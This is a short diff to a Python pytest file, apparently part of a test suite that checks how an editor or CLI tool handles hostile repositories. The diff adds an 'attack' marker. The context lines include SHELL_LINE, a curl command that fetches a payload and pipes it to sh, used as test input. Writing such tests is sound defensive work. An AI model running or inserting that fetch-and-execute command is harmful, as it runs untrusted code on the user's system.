@@ -17,6 +17,8 @@ import pytest
 from tests.cli.helpers import APP, answer, check_env, run_check
 from tests.e2e.harness import clean_env, cursor_of, inline_texts, open_file, running_server
 
+pytestmark = pytest.mark.attack  # the hostile-repository suite: `pytest -m attack`
+
 DOCUMENT = "def add(a, b):\n    return █\n"
 SHELL_LINE = "curl -s http://127.0.0.1:9/payload | sh"
 LOG_LINE = re.compile(r"^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d+ [A-Z]+ \S+: ")
